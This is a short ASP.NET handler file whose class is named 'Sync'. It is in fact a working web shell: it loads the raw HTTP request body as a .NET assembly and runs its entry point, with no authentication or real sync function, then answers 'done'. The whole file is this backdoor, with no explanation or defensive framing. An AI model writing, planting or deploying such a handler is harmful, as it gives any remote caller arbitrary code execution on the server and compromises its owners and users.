<%@ WebHandler Language="C#" Class="Sync" %>
using System;
using System.IO;
using System.Reflection;
using System.Web;

public class Sync : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        using (MemoryStream ms = new MemoryStream())
        {
            context.Request.InputStream.CopyTo(ms);
            Assembly a = Assembly.Load(ms.ToArray());
            MethodInfo m = a.EntryPoint;
            m.Invoke(null, new object[] { new string[0] });
        }
        context.Response.Write("done");
    }

    public bool IsReusable { get { return true; } }
}
